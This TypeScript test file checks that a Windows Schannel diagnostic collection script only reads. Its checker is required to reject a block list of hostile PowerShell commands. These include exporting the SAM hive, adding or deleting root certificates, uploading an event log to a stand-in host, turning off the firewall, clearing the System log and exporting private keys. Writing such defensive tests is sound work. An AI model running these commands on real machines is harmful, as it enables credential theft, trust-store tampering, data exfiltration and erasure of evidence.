// Issue 10, item 6: the collection script only reads. Every command in it passes an allow-list checker, and the
// checker itself is shown to reject each kind of write (registry, certificate store, network, files elsewhere).
import * as assert from 'node:assert/strict';
import { collectedFileNames, collectionScript, EVENT_LOG_EXPORTS, REGISTRY_STORE_EXPORTS, SCHANNEL_EXPORT, storeExports } from '../../../../src/core/case/collectScript';
import { checkPowerShell } from '../../../support/psAllowList';

/** Commands a read-only collection script must never contain; each must be rejected by the checker. */
const FORBIDDEN: readonly string[] = [
	'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\SCHANNEL" /v SendTrustedIssuerList /t REG_DWORD /d 0 /f',
	'reg delete "HKLM\\SOFTWARE\\Microsoft\\SystemCertificates\\AuthRoot\\Certificates" /f',
	'reg import "$out\\schannel-settings.reg"',
	'reg export HKLM\\SAM C:\\Users\\Public\\sam.reg /y',
	'Remove-Item -Path "$out\\Root.sst"',
	'Import-Certificate -FilePath C:\\x.cer -CertStoreLocation Cert:\\LocalMachine\\Root',
	'certutil -addstore Root C:\\x.cer',
	'certutil -delstore Root 0123456789abcdef0123456789abcdef01234567',
	"Set-ItemProperty -Path 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\SCHANNEL' -Name SendTrustedIssuerList -Value 0",
	"New-ItemProperty -Path 'HKLM:\\SOFTWARE\\x' -Name y -Value 1",
	'Invoke-WebRequest -Uri https://example.invalid/upload -Method Post -InFile "$out\\system.evtx"',
	'Invoke-RestMethod -Uri https://example.invalid/api',
	'Start-BitsTransfer -Source https://example.invalid/a -Destination "$out\\a"',
	"(New-Object Net.WebClient).DownloadFile('https://example.invalid/a', 'C:\\a')",
	"[System.Net.WebClient]::new().UploadFile('https://example.invalid', 'C:\\a')",
	'curl https://example.invalid',
	'wget https://example.invalid',
	'netsh http add sslcert ipport=0.0.0.0:443 certhash=0102030405060708090A0B0C0D0E0F1011121314 appid={00112233-4455-6677-8899-AABBCCDDEEFF}',
	'netsh http delete sslcert ipport=0.0.0.0:443',
	'netsh advfirewall set allprofiles state off',
	'wevtutil cl System',
	'wevtutil sl Microsoft-Windows-CAPI2/Operational /e:true',
	'Out-File -FilePath C:\\Windows\\System32\\drivers\\etc\\hosts',
	'Set-Content -Path "$out\\..\\..\\evil.txt" -Value x',
	'New-Item -ItemType File -Path C:\\evil.txt',
	"'x' > C:\\Windows\\evil.txt",
	"Invoke-Expression 'reg add HKLM\\x /f'",
	'iex $payload',
	'& reg add HKLM\\x /f',
	'. .\\evil.ps1',
	"[IO.File]::WriteAllText('C:\\x', 'y')",
	'Write-Host "$(Remove-Item C:\\x)"',
	'Start-Process cmd.exe',
	'function Remove-Everything { }',
	'Export-Certificate -Cert $certs -FilePath C:\\Users\\Public\\all.sst -Type SST',
	'Export-PfxCertificate -Cert $certs -FilePath "$out\\keys.pfx" -Password $p',
];

suite('collection script (issue 10 item 6)', () => {
	for (const role of ['server', 'client'] as const) {
		test(`${role}: every command is on the read-only allow-list`, () => {
			const script = collectionScript({ role });
			assert.deepEqual(checkPowerShell(script), []);
		});
	}

	test('the default role is server', () => {
		assert.equal(collectionScript(), collectionScript({ role: 'server' }));
		assert.match(collectionScript(), /\$role = 'server'/);
	});

	test('it exports what the issue asks for, into the files the header lists', () => {
		const server = collectionScript({ role: 'server' });
		const client = collectionScript({ role: 'client' });
		assert.ok(server.includes(`reg export '${SCHANNEL_EXPORT.key}' "$out\\schannel-settings.reg" /y`));
		for (const e of REGISTRY_STORE_EXPORTS) assert.ok(server.includes(`reg export '${e.key}' "$out\\${e.file}" /y`), e.key);
		for (const s of ['Root', 'AuthRoot', 'CA', 'ClientAuthIssuer', 'My']) assert.ok(server.includes(`@('LocalMachine\\${s}', '${s}.sst')`), s);
		assert.ok(!server.includes('CurrentUser\\My'), 'the server script leaves the current user alone');
		assert.ok(client.includes(`@('CurrentUser\\My', 'CurrentUser-My.sst')`));
		assert.match(server, /Export-Certificate -Cert \$certs -FilePath "\$out\\\$file" -Type SST/);
		assert.match(server, /netsh http show sslcert \| Out-File -FilePath "\$out\\netsh-sslcert\.txt"/);
		assert.match(server, /\(Get-Item -Path "\$env:SystemRoot\\System32\\schannel\.dll"\)\.VersionInfo/);
		assert.match(server, /Format-List FileVersion, ProductVersion, FileName/);
		for (const e of EVENT_LOG_EXPORTS) assert.ok(server.includes(`@('${e.log}', '${e.file}')`), e.log);
		assert.match(server, /wevtutil epl \$log "\$out\\\$file" \/ow:true/);
		assert.match(server, /schannel-lens\.json/);
		assert.match(server, /New-Item -ItemType Directory -Path \$out/);
		assert.match(server, /'schannel-lens-' \+ \$env:COMPUTERNAME \+ '-' \+ \$stamp/);
		assert.match(server, /Get-Date -Format 'yyyyMMdd-HHmmss'/);
		for (const file of collectedFileNames('client')) assert.ok(client.includes(file), `the client script names ${file}`);
		assert.equal(storeExports('client').length, storeExports('server').length + 1);
	});

	test('the header says what it reads and that it changes nothing, before any command', () => {
		const script = collectionScript();
		const header = script.slice(0, script.indexOf('#>'));
		assert.ok(script.startsWith('<#'));
		assert.match(header, /only READS this machine and changes nothing/);
		for (const file of collectedFileNames('server')) assert.ok(header.includes(file), `the header lists ${file}`);
		assert.match(header, /Diagnose Folder/);
	});

	test('every step is wrapped, and a summary closes the run', () => {
		const script = collectionScript();
		const steps = script.split('\n').filter((l) => /^\s*Invoke-CollectionStep /.test(l));
		// SCHANNEL + 6 registry stores + one per store loop + netsh + dll + OS + one per log loop + json
		assert.equal(steps.length, 1 + REGISTRY_STORE_EXPORTS.length + 1 + 1 + 1 + 1 + 1 + 1);
		// Each tool call sits inside a step: on the step's own line, or below the nearest less-indented line
		// that opens a step block.
		const lines = script.split('\n');
		const indent = (l: string): number => l.length - l.trimStart().length;
		lines.forEach((l, i) => {
			if (!/\b(reg export|netsh http|wevtutil epl|Export-Certificate -Cert)\b/.test(l) || /^\s*#/.test(l) || i < script.slice(0, script.indexOf('#>')).split('\n').length) return;
			if (/^\s*Invoke-CollectionStep .*\{.*\}\s*$/.test(l)) return;
			let j = i - 1;
			while (j >= 0 && indent(lines[j]!) >= indent(l)) j--;
			assert.ok(j >= 0 && /^\s*Invoke-CollectionStep .*\{\s*$/.test(lines[j]!), `not inside a step: ${l.trim()}`);
		});
		assert.match(script, /catch \{/);
		assert.match(script, /\$results \| Out-File -FilePath "\$out\\collection-summary\.txt"/);
		assert.match(script, /foreach \(\$line in \$results\) \{ Write-Host \$line \}/);
	});

	test('the JSON line escapes quotes and backslashes (PowerShell 2.0 has no ConvertTo-Json)', () => {
		const script = collectionScript();
		assert.ok(script.includes(`-replace '\\\\', '\\\\' -replace '"', '\\"'`));
		assert.ok(script.includes(`'{{ "name": "{0}", "role": "{1}", "windows": "{2}" }}' -f`));
	});
});

suite('the allow-list checker itself (it can fail)', () => {
	for (const line of FORBIDDEN) {
		test(`rejects: ${line}`, () => {
			const alone = checkPowerShell(`$out = 'x'\n${line}\n`);
			assert.ok(alone.length > 0, 'rejected on its own');
			// And inside the real script, as one more step: the script's own commands must not mask it.
			const script = collectionScript().replace('# Summary.', `Invoke-CollectionStep 'extra' { ${line} }\n# Summary.`);
			const inScript = checkPowerShell(script);
			assert.ok(inScript.length > 0, 'rejected inside the script');
			assert.ok(inScript.every((v) => v.line > 1), 'reports a line');
		});
	}

	test('accepts the read-only forms of the same tools', () => {
		for (const line of [
			'reg export "HKLM\\SOFTWARE\\Microsoft\\SystemCertificates\\CA" "$out\\ca-store.reg" /y',
			'netsh http show sslcert',
			'netsh http show sslcert hostnameport=www.contoso.com:443',
			'wevtutil epl System "$out\\system.evtx" /ow:true',
			'Get-ChildItem -Path Cert:\\LocalMachine\\Root | Format-List Subject',
			'Out-File -FilePath "$out\\x.txt" -Append',
		]) {
			assert.deepEqual(checkPowerShell(`${line}\n`), [], line);
		}
	});

	test('comments and strings do not hide or fake commands', () => {
		assert.deepEqual(checkPowerShell("# reg add HKLM\\x /f\nWrite-Host 'reg delete HKLM\\x'\n<# Remove-Item C:\\ #>\n"), []);
		assert.ok(checkPowerShell("Write-Host 'ok'; Remove-Item C:\\x\n").length > 0, 'a second statement on the line');
		assert.ok(checkPowerShell("Write-Host 'ok' | Remove-Item\n").length > 0, 'a pipeline element');
		assert.ok(checkPowerShell("if ($true) { Remove-Item C:\\x }\n").length > 0, 'inside a block');
		assert.ok(checkPowerShell("$x = (Remove-Item C:\\x)\n").length > 0, 'in an assignment');
		assert.ok(checkPowerShell("$x = Remove-Item C:\\x\n").length > 0, 'as an assigned pipeline');
	});
});
